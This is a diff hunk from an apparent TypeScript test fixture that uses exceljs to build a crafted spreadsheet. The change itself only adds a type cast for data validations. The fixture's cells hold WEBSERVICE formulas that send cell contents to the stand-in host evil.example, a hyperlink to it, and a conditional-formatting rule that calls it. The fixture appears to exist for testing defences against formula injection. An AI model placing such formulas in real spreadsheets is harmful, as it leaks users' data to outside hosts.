@@ -68,7 +68,8 @@ async function craftedReturn(): Promise<Buffer> {
   lines.getCell('X2').value = { formula: 'WEBSERVICE("http://evil.example/?d="&A2)', result: 'fetched' };
   lines.getCell('X3').value = { text: 'see the file', hyperlink: 'http://evil.example/dossier' };
   lines.getCell('Y2').value = { formula: 'SUM(Q2:Q3)', result: 4 };
-  lines.dataValidations.add('G2:G100', { type: 'list', allowBlank: true, formulae: ['"ACTIVE,CLOSED,http://evil.example/"'] });
+  // exceljs writes data validations but leaves them out of its type declarations.
+  (lines as ExcelJS.Worksheet & { dataValidations: { add(range: string, v: ExcelJS.DataValidation): void } }).dataValidations.add('G2:G100', { type: 'list', allowBlank: true, formulae: ['"ACTIVE,CLOSED,http://evil.example/"'] });
   lines.addConditionalFormatting({
     ref: 'A2:A100',
     rules: [{ type: 'expression', priority: 1, formulae: ['ISNUMBER(WEBSERVICE("http://evil.example/cf"))'], style: { fill: { type: 'pattern', pattern: 'solid', bgColor: { argb: 'FFFF0000' } } } }],
